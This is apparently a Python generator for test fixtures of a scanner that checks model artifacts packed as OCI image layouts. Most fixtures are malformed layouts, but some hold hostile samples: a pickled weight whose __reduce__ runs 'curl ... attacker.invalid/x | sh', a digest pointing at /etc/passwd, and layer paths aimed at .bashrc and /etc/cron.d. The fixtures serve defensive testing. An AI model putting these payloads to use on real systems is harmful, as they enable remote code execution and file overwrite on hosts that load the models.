#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Write the OCI image layout fixtures of this folder, expected.tsv, and the seeds of
tests/fuzz/corpus/oci.

Each fixture is a folder laid out as `oras copy --to-oci-layout` and `skopeo copy oci:` leave
a model artifact: oci-layout, index.json, and blobs/sha256/<digest> holding the manifests, the
config and the layers (the model's files, named by org.opencontainers.image.title, or by
org.cncf.model.filepath in CNCF ModelPack artifacts). The benign ones follow the image spec;
each hostile one breaks one rule. Standard library only. Run: python3 gen-oci.py [OUTDIR]
"""
import gzip
import hashlib
import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else HERE
SEEDS = os.path.join(HERE, "..", "..", "tests", "fuzz", "corpus", "oci")
rows = []

MANIFEST = "application/vnd.oci.image.manifest.v1+json"
INDEX = "application/vnd.oci.image.index.v1+json"
MODEL_ARTIFACT = "application/vnd.cncf.model.manifest.v1+json"


def safetensors():
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "__metadata__": {"format": "pt"}}, separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<4f", 1, 2, 3, 4)


class Layout:
    def __init__(self, name):
        self.dir = os.path.join(OUT, name)
        shutil.rmtree(self.dir, ignore_errors=True)
        os.makedirs(os.path.join(self.dir, "blobs", "sha256"))
        self.write("oci-layout", json.dumps({"imageLayoutVersion": "1.0.0"}).encode())

    def write(self, rel, data):
        path = os.path.join(self.dir, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)

    def blob(self, data, media, title=None, key="org.opencontainers.image.title"):
        digest = hashlib.sha256(data).hexdigest()
        self.write("blobs/sha256/" + digest, data)
        d = {"mediaType": media, "digest": "sha256:" + digest, "size": len(data)}
        if title:
            d["annotations"] = {key: title}
        return d

    def manifest(self, layers, config=None, artifact=MODEL_ARTIFACT, fmt="safetensors",
                 diffids=None):
        """A ModelPack config by default (modctl's shape: the DiffIDs are the layers' digests,
        which are the uncompressed digests of raw and tar layers)."""
        if config is None:
            if diffids is None:
                diffids = [l["digest"] for l in layers]
            config = self.blob(json.dumps(modelpack_config(diffids, fmt)).encode(),
                               "application/vnd.cncf.model.config.v1+json")
        doc = {"schemaVersion": 2, "mediaType": MANIFEST, "artifactType": artifact,
               "config": config, "layers": layers}
        return self.blob(json.dumps(doc, indent=2).encode(), MANIFEST), doc

    def index(self, manifests, raw=None):
        doc = {"schemaVersion": 2, "mediaType": INDEX, "manifests": manifests}
        data = raw if raw is not None else json.dumps(doc, indent=2).encode()
        self.write("index.json", data)
        return data


def modelpack_config(diffids, fmt="safetensors"):
    return {"descriptor": {"name": "demo", "version": "1.0"},
            "config": {"architecture": "demo", "format": fmt, "paramSize": "4"},
            "modelfs": {"type": "layers", "diffIds": diffids}}


def model_layers(lay, key="org.cncf.model.filepath"):
    return [lay.blob(safetensors(), "application/vnd.cncf.model.weight.v1.raw",
                     "model.safetensors", key),
            lay.blob(b'{"architectures": ["Demo"]}', "application/vnd.cncf.model.weight.config.v1.raw",
                     "config.json", key)]


def tag(d, ref="latest"):
    d = dict(d)
    d["annotations"] = {"org.opencontainers.image.ref.name": ref}
    return d


def row(name, rules):
    rows.append((name, rules))


def seed(name, lay):
    """index.json, a NUL, the first manifest, and for a manifest with a config and layers a NUL,
    the config, a NUL and the first layer: what fuzz_oci takes apart again. fuzz_oci stores
    the parts under fixed names (sha256:abab..., cdcd..., efef...), which the index, the
    manifest and its first layer are made to point at here."""
    os.makedirs(SEEDS, exist_ok=True)
    blobs = os.path.join(lay.dir, "blobs", "sha256")
    with open(os.path.join(lay.dir, "index.json"), "rb") as f:
        data = f.read()
    try:
        index = json.loads(data)
        first = index["manifests"][0]["digest"].split(":", 1)[1]
        with open(os.path.join(blobs, first), "rb") as f:
            manifest = f.read()
        doc = json.loads(manifest)
        if "config" in doc and doc.get("layers"):
            with open(os.path.join(blobs, doc["config"]["digest"][7:]), "rb") as f:
                config = f.read()
            with open(os.path.join(blobs, doc["layers"][0]["digest"][7:]), "rb") as f:
                layer = f.read()
            index["manifests"][0]["digest"] = "sha256:" + "ab" * 32
            doc["config"]["digest"] = "sha256:" + "cd" * 32
            doc["layers"][0]["digest"] = "sha256:" + "ef" * 32
            data = (json.dumps(index).encode() + b"\0" + json.dumps(doc).encode() + b"\0" +
                    config + b"\0" + layer)
        else:
            data += b"\0" + manifest
    except (ValueError, KeyError, IndexError, TypeError, OSError, AttributeError):
        pass
    with open(os.path.join(SEEDS, name + ".bin"), "wb") as f:
        f.write(data)


# ---- benign ----

lay = Layout("ok_modelpack")
m, _ = lay.manifest(model_layers(lay))
lay.index([tag(m)])
row("ok_modelpack", "-")
seed("ok_modelpack", lay)

lay = Layout("ok_oras")
m, _ = lay.manifest(model_layers(lay, "org.opencontainers.image.title"),
                    config=lay.blob(b"{}", "application/vnd.oci.empty.v1+json"),
                    artifact="application/vnd.example.model")
lay.index([tag(m, "v1")])
lay.write("README.md", b"A model copied with oras copy --to-oci-layout.\n")
row("ok_oras", "-")

lay = Layout("ok_nested_index")
m1, _ = lay.manifest(model_layers(lay))
inner = lay.blob(json.dumps({"schemaVersion": 2, "mediaType": INDEX,
                             "manifests": [m1]}).encode(), INDEX)
lay.index([tag(inner)])
row("ok_nested_index", "-")
seed("ok_nested_index", lay)

lay = Layout("ok_unreferenced")
m, _ = lay.manifest(model_layers(lay))
lay.index([tag(m)])
lay.blob(b"left behind by an earlier push", "application/octet-stream")
row("ok_unreferenced", "info:oci.blob.unreferenced")

# ---- hostile ----

lay = Layout("blob_missing")
layers = model_layers(lay)
os.unlink(os.path.join(lay.dir, "blobs", "sha256", layers[0]["digest"][7:]))
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("blob_missing", "oci.blob.missing")
seed("blob_missing", lay)

lay = Layout("blob_size")
layers = model_layers(lay)
layers[0]["size"] -= 8          # a reader trusting the descriptor stops short
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("blob_size", "oci.blob.size")
seed("blob_size", lay)

lay = Layout("blob_tampered")
layers = model_layers(lay)
path = os.path.join(lay.dir, "blobs", "sha256", layers[1]["digest"][7:])
with open(path, "r+b") as f:
    f.write(b"[")
m, _ = lay.manifest(layers)
lay.index([tag(m)])
row("blob_tampered", "integrity.digest.mismatch")

lay = Layout("digest_traversal")
layers = model_layers(lay)
layers.append({"mediaType": "application/vnd.cncf.model.weight.v1.raw",
               "digest": "sha256:../../../../etc/passwd", "size": 100,
               "annotations": {"org.cncf.model.filepath": "extra.bin"}})
m, _ = lay.manifest(layers, diffids=[l["digest"] for l in layers[:2]] + ["sha256:" + "0" * 64])
lay.index([tag(m)])
row("digest_traversal", "oci.digest.invalid")
seed("digest_traversal", lay)

lay = Layout("digest_algorithm")
m, _ = lay.manifest(model_layers(lay))
m = dict(m, digest="md5:" + "0" * 32)
lay.index([tag(m)])
row("digest_algorithm", "oci.digest.invalid")

lay = Layout("index_invalid")
m, _ = lay.manifest(model_layers(lay))
lay.index([], raw=b'{"schemaVersion": 2, "manifests": [')
row("index_invalid", "oci.layout.invalid")
seed("index_invalid", lay)

lay = Layout("index_duplicate_key")
m, _ = lay.manifest(model_layers(lay))
lay.index([], raw=('{"schemaVersion": 2, "manifests": [], "manifests": [%s]}'
                   % json.dumps(tag(m))).encode())
row("index_duplicate_key", "oci.layout.invalid")
seed("index_duplicate_key", lay)

lay = Layout("index_missing")
lay.manifest(model_layers(lay))
row("index_missing", "oci.layout.invalid")

lay = Layout("layout_version")
lay.write("oci-layout", b'{"imageLayoutVersion": "2.0.0"}')
m, _ = lay.manifest(model_layers(lay))
lay.index([tag(m)])
row("layout_version", "oci.layout.invalid")

lay = Layout("manifest_schema")
layers = model_layers(lay)
doc = {"schemaVersion": 1, "mediaType": MANIFEST, "layers": layers}
m = lay.blob(json.dumps(doc).encode(), MANIFEST)
lay.index([tag(m)])
row("manifest_schema", "oci.layout.invalid")
seed("manifest_schema", lay)

# A manifest that names itself cannot match its own digest; the walk must still end.
lay = Layout("manifest_loop")
fake = "sha256:" + "ab" * 32
doc = {"schemaVersion": 2, "mediaType": MANIFEST, "config": model_layers(lay)[1],
       "layers": [{"mediaType": MANIFEST, "digest": fake, "size": 0}]}
data = json.dumps(doc).encode()
doc["layers"][0]["size"] = len(data)
data = json.dumps(doc).encode()
lay.write("blobs/sha256/" + "ab" * 32, data)
lay.index([tag({"mediaType": MANIFEST, "digest": fake, "size": len(data)})])
# (its config is a layer's type, which no model packaging has for a config)
row("manifest_loop", "integrity.digest.mismatch,oci.blob.size,oci.model.mediatype.unknown")
seed("manifest_loop", lay)

# A layer that is a pickle calling os.system, as a model pushed with a .pt weight would be.
lay = Layout("layer_pickle")  # a .bin weight: the config says pt, so a pickle is no surprise


class Payload:
    def __reduce__(self):
        return (os.system, ("curl -s http://attacker.invalid/x | sh",))


layers = [lay.blob(pickle.dumps({"w": Payload()}, protocol=2),
                   "application/vnd.cncf.model.weight.v1.raw", "pytorch_model.bin",
                   "org.cncf.model.filepath")]
m, _ = lay.manifest(layers, fmt="pt")
lay.index([tag(m)])
row("layer_pickle", "pickle.global.denied")
seed("layer_pickle", lay)

# ---- model artifacts: ModelPack, KitOps and Docker model, benign and hostile ----

MP = "application/vnd.cncf.model."
FILEPATH = "org.cncf.model.filepath"
KIT = "application/vnd.kitops.modelkit."
DOCKER = "application/vnd.docker.ai."
GGUF = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)


def tar_of(files):
    """A tar of {name: bytes}, as modctl and kit write them: sorted, constant metadata."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name in sorted(files):
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(files[name]), 0o644, 0
            t.addfile(info, io.BytesIO(files[name]))
    return buf.getvalue()


def gz(data):
    return gzip.compress(data, mtime=0)


def zst(data):
    """zstd's own command line (Debian's zstd), as no module of the standard library has it."""
    return subprocess.run(["zstd", "-q", "-c", "-3"], input=data, check=True,
                          stdout=subprocess.PIPE).stdout


def sha(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def modelpack(name, layers, diffids=None, fmt="safetensors", config=None, artifact=MODEL_ARTIFACT):
    """layers: (bytes, media type suffix or whole type, filepath or None, diffid source or None
    [, more annotations])."""
    lay = Layout(name)
    descs, ids = [], []
    for data, media, path, plain, *more in layers:
        media = media if "/" in media else MP + media
        d = lay.blob(data, media, path, FILEPATH) if path else lay.blob(data, media)
        if more:
            d.setdefault("annotations", {}).update(more[0])
        descs.append(d)
        ids.append(sha(plain if plain is not None else data))
    m, _ = lay.manifest(descs, config=config, artifact=artifact, fmt=fmt,
                        diffids=ids if diffids is None else diffids)
    lay.index([tag(m, "v1")])
    return lay


# Every encoding ModelPack defines, the DiffIDs of the compressed ones those of the tar inside.
docs = tar_of({"README.md": b"# demo\n", "LICENSE": b"Apache-2.0\n"})
code = tar_of({"USAGE.md": b"Load with the demo runner.\n"})  # (a .py is flagged as code)
data = tar_of({"train.jsonl": b'{"text": "hi"}\n'})
lay = modelpack("ok_modelpack_tars", [
    (zst(data), "dataset.v1.tar+zstd", "data", data),   # first: the layer fuzz_oci's seed holds
    (safetensors(), "weight.v1.raw", "model.safetensors", None),
    (b'{"architectures": ["Demo"]}', "weight.config.v1.raw", "config.json", None),
    (docs, "doc.v1.tar", "docs", None),
    (gz(code), "code.v1.tar+gzip", "code", code)])
row("ok_modelpack_tars", "-")
seed("ok_modelpack_tars", lay)

# modctl writes the layer digest as the DiffID of a compressed layer too: the same bytes.
lay = modelpack("ok_modelpack_modctl", [
    (safetensors(), "weight.v1.raw", "model.safetensors", None),
    (gz(docs), "doc.v1.tar+gzip", "docs", None)])
row("ok_modelpack_modctl", "-")

lay = Layout("ok_kitops")
kitfile = {"manifestVersion": "1.0.0", "package": {"name": "demo", "version": "1.0"},
           "model": {"name": "demo", "path": "model.safetensors", "framework": "safetensors"},
           "docs": [{"path": "README.md"}]}
cfg = lay.blob(json.dumps(kitfile).encode(), KIT + "config.v1+json")
descs = [lay.blob(tar_of({"model.safetensors": safetensors()}), KIT + "model.v1.tar"),
         lay.blob(gz(tar_of({"README.md": b"# demo\n"})), KIT + "docs.v1.tar+gzip"),
         lay.blob(tar_of({"USAGE.md": b"Load with the demo runner.\n"}), KIT + "code.v1.tar")]
m, _ = lay.manifest(descs, config=cfg, artifact=KIT + "manifest.v1+json")
lay.index([tag(m, "v1")])
row("ok_kitops", "-")
seed("ok_kitops", lay)


def docker_model(name, layers, version="v0.2", diffids=None):
    """Docker model artifact: no artifactType, one layer per file, a config with rootfs."""
    lay = Layout(name)
    descs = [lay.blob(data, DOCKER + media, path, FILEPATH) if path else lay.blob(data, DOCKER + media)
             for data, media, path in layers]
    config = {"config": {"format": "gguf", "architecture": "demo", "size": "72 B"},
              "descriptor": {"created": "2025-01-01T00:00:00Z"},
              "rootfs": {"type": "rootfs",
                         "diff_ids": diffids or [d["digest"] for d in descs]}}
    cfg = lay.blob(json.dumps(config).encode(), DOCKER + "model.config." + version + "+json")
    doc = {"schemaVersion": 2, "mediaType": MANIFEST, "config": cfg, "layers": descs}
    m = lay.blob(json.dumps(doc, indent=2).encode(), MANIFEST)
    lay.index([tag(m, "v1")])
    return lay


lay = docker_model("ok_docker", [(GGUF, "gguf.v3", "model.gguf"),
                                 (b"MIT\n", "license", "LICENSE"),
                                 (b"{{ messages }}", "chat.template.jinja", "template.jinja")])
row("ok_docker", "-")
seed("ok_docker", lay)

# Paths a loader writing each layer to its annotation would get wrong.
good = (b'{"architectures": ["Demo"]}', "weight.config.v1.raw", "config.json", None)
for name, path, rule in [
        ("path_traversal", "../../.bashrc", "oci.model.path.traversal"),
        ("path_absolute", "/etc/cron.d/model", "oci.model.path.traversal"),
        ("path_backslash", "weights\\model.safetensors", "oci.model.path.invalid"),
        ("path_control", "model\x1b[2K.safetensors", "oci.model.path.invalid"),
        ("path_dot", "./weights//model.safetensors", "oci.model.path.invalid")]:
    lay = modelpack(name, [(safetensors(), "weight.v1.raw", path, None), good])
    row(name, rule)
    seed(name, lay)

lay = modelpack("path_duplicate", [(safetensors(), "weight.v1.raw", "model.safetensors", None),
                                   (safetensors()[:-4] + b"\0\0\0\0", "weight.v1.raw",
                                    "model.safetensors", None)])
row("path_duplicate", "oci.model.path.duplicate")
seed("path_duplicate", lay)

lay = modelpack("path_collision", [(safetensors(), "weight.v1.raw", "model.safetensors", None),
                                   (b'{}', "weight.config.v1.raw", "Model.safetensors", None)])
row("path_collision", "oci.model.path.collision")

lay = modelpack("path_missing", [(safetensors(), "weight.v1.raw", None, None), good])
row("path_missing", "oci.model.path.missing")

# org.cncf.model.file.metadata+json, the tar header modctl writes and applies when it unpacks.
def meta(name="model.safetensors", size=None, mode=0o644, typeflag=48, raw=None):
    v = raw if raw is not None else json.dumps(
        {"name": name, "mode": mode, "uid": 0, "gid": 0,
         "size": len(safetensors()) if size is None else size,
         "mtime": "2025-01-01T00:00:00Z", "typeflag": typeflag})
    return {"org.cncf.model.file.metadata+json": v}


for name, m, rule in [
        ("ok_modelpack_meta", meta(), "-"),
        ("config_meta_size", meta(size=len(safetensors()) - 8), "oci.model.metadata.invalid"),
        ("config_meta_name", meta(name="tokenizer.json"), "oci.model.metadata.invalid"),
        ("config_meta_symlink", meta(typeflag=ord("2")), "oci.model.metadata.invalid"),
        ("config_meta_json", meta(raw='{"name": "model.safetensors", "size": '),
         "oci.model.metadata.invalid"),
        ("config_meta_types", meta(raw='{"name": "model.safetensors", "size": "100"}'),
         "oci.model.metadata.invalid"),
        ("config_meta_setuid", meta(mode=0o4755), "archive.entry.setuid")]:
    lay = modelpack(name, [(safetensors(), "weight.v1.raw", "model.safetensors", None, m), good])
    row(name, rule)
    if name in ("ok_modelpack_meta", "config_meta_setuid"):
        seed(name, lay)

# DiffIDs that are not the layers'.
lay = modelpack("diffid_count", [(safetensors(), "weight.v1.raw", "model.safetensors", None), good],
                diffids=[sha(safetensors())])
row("diffid_count", "oci.model.diffid.mismatch")
seed("diffid_count", lay)

lay = modelpack("diffid_raw", [(safetensors(), "weight.v1.raw", "model.safetensors", None), good],
                diffids=[sha(b"another model"), sha(good[0])])
row("diffid_raw", "oci.model.diffid.mismatch")

lay = modelpack("diffid_gzip", [(safetensors(), "weight.v1.raw", "model.safetensors", None),
                                (gz(docs), "doc.v1.tar+gzip", "docs",
                                 tar_of({"README.md": b"# another\n"}))])
row("diffid_gzip", "oci.model.diffid.mismatch")

lay = modelpack("diffid_zstd", [(safetensors(), "weight.v1.raw", "model.safetensors", None),
                                (zst(docs), "doc.v1.tar+zstd", "docs",
                                 tar_of({"README.md": b"# another\n"}))])
row("diffid_zstd", "oci.model.diffid.mismatch")

lay = Layout("config_no_modelfs")
d = lay.blob(safetensors(), MP + "weight.v1.raw", "model.safetensors", FILEPATH)
cfg = lay.blob(json.dumps({"descriptor": {"name": "demo"}, "config": {}}).encode(),
               MP + "config.v1+json")
m, _ = lay.manifest([d], config=cfg)
lay.index([tag(m, "v1")])
row("config_no_modelfs", "oci.model.config.invalid")
seed("config_no_modelfs", lay)

# Content that is not what the media type says.
lay = modelpack("content_tar", [(safetensors(), "weight.v1.tar", "model.safetensors", None)])
row("content_tar", "oci.model.content.mismatch")
seed("content_tar", lay)

lay = modelpack("content_gzip", [(gz(b"not a tar\n" * 100), "doc.v1.tar+gzip", "docs",
                                  b"not a tar\n" * 100)])
row("content_gzip", "oci.model.content.mismatch")
seed("content_gzip", lay)

lay = modelpack("content_gzip_cut", [(gz(docs)[:-20], "doc.v1.tar+gzip", "docs", docs)])
row("content_gzip_cut", "oci.model.content.mismatch,archive.read.error,analysis.incomplete")
seed("content_gzip_cut", lay)

# A plain pickle (no call in it) where the config says safetensors: loaders told safetensors
# would never unpickle it, others would.
lay = modelpack("content_pickle", [(pickle.dumps({"w": [1.0, 2.0]}, protocol=2), "weight.v1.raw",
                                    "model.safetensors", None)])
row("content_pickle", "oci.model.content.mismatch")
seed("content_pickle", lay)

lay = docker_model("docker_not_gguf", [(safetensors(), "gguf.v3", "model.gguf")])
row("docker_not_gguf", "oci.model.content.mismatch")

lay = docker_model("docker_traversal", [(GGUF, "gguf.v3", "../model.gguf")])
row("docker_traversal", "oci.model.path.traversal")
seed("docker_traversal", lay)

lay = docker_model("docker_path_missing", [(GGUF, "gguf.v3", None)])
row("docker_path_missing", "oci.model.path.missing")

lay = Layout("kitops_unknown_type")
cfg = lay.blob(json.dumps(kitfile).encode(), KIT + "config.v1+json")
descs = [lay.blob(tar_of({"model.safetensors": safetensors()}), KIT + "weights.v2.tar")]
m, _ = lay.manifest(descs, config=cfg, artifact=KIT + "manifest.v1+json")
lay.index([tag(m, "v1")])
row("kitops_unknown_type", "oci.model.mediatype.unknown")
seed("kitops_unknown_type", lay)

lay = modelpack("modelpack_unknown_type", [(safetensors(), "weight.v2.raw", "model.safetensors",
                                            None)])
row("modelpack_unknown_type", "oci.model.mediatype.unknown")

# ---- layouts packed into tars, as docker save and skopeo copy oci-archive: write them ----


def pack(name, layout):
    """layout as a tar with members ./oci-layout, ./blobs/sha256/..., in sorted order."""
    root = os.path.join(OUT, layout)
    with tarfile.open(os.path.join(OUT, name), "w", format=tarfile.PAX_FORMAT) as t:
        for dirpath, dirnames, filenames in sorted(os.walk(root)):
            dirnames.sort()
            for fn in sorted(filenames):
                full = os.path.join(dirpath, fn)
                info = t.gettarinfo(full, "./" + os.path.relpath(full, root))
                info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
                with open(full, "rb") as f:
                    t.addfile(info, f)


pack("ok_modelpack.tar", "ok_modelpack")
row("ok_modelpack.tar", "-")
pack("blob_tampered.tar", "blob_tampered")
row("blob_tampered.tar", "integrity.digest.mismatch")

# docker save of Docker 25 and later: the OCI layout, and beside it Docker's manifest.json and
# repositories. (The .oci.tar files are skopeo's own: gen-archives.sh.)


def pack_docker(name, layout):
    root = os.path.join(OUT, layout)
    with open(os.path.join(root, "index.json")) as f:
        m = json.load(f)["manifests"][0]["digest"]
    with open(os.path.join(root, "blobs", "sha256", m[7:])) as f:
        doc = json.load(f)
    extra = {"manifest.json": json.dumps([{
        "Config": "blobs/sha256/" + doc["config"]["digest"][7:],
        "RepoTags": ["demo:v1"],
        "Layers": ["blobs/sha256/" + l["digest"][7:] for l in doc["layers"]]}]).encode(),
        "repositories": json.dumps({"demo": {"v1": m[7:]}}).encode()}
    with tarfile.open(os.path.join(OUT, name), "w", format=tarfile.PAX_FORMAT) as t:
        for dirpath, dirnames, filenames in sorted(os.walk(root)):
            dirnames.sort()
            for fn in sorted(filenames):
                full = os.path.join(dirpath, fn)
                info = t.gettarinfo(full, os.path.relpath(full, root))
                info.mtime, info.uid, info.gid, info.uname, info.gname = 0, 0, 0, "", ""
                with open(full, "rb") as f:
                    t.addfile(info, f)
        for fn, data in extra.items():
            info = tarfile.TarInfo(fn)
            info.size, info.mode = len(data), 0o644
            t.addfile(info, io.BytesIO(data))


for layout in ["ok_docker", "docker_traversal", "diffid_zstd", "content_tar"]:
    pack_docker(layout + ".docker.tar", layout)
    row(layout + ".docker.tar", dict(rows)[layout])
for layout in ["ok_modelpack_tars", "ok_kitops", "ok_docker", "path_traversal", "path_duplicate",
               "diffid_gzip", "content_pickle", "layer_pickle"]:
    row(layout + ".oci.tar", dict(rows)[layout])

with open(os.path.join(OUT, "expected.tsv"), "w") as f:
    f.write("# fixture\texpected rules (comma-separated), or - for nothing above info\n")
    for name, rules in rows:
        f.write("%s\t%s\n" % (name, rules))
